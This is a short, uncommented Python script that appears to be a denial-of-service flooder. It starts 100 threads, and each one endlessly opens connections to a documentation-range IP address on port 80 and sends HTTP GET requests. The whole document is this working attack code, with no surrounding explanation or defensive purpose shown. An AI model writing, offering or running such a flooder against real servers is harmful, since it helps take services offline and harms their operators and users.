import threading, socket
def flood():
    while True:
        s = socket.socket(); s.connect(("192.0.2.9", 80)); s.send(b"GET / HTTP/1.1\r\n\r\n")
for _ in range(100):
    threading.Thread(target=flood).start()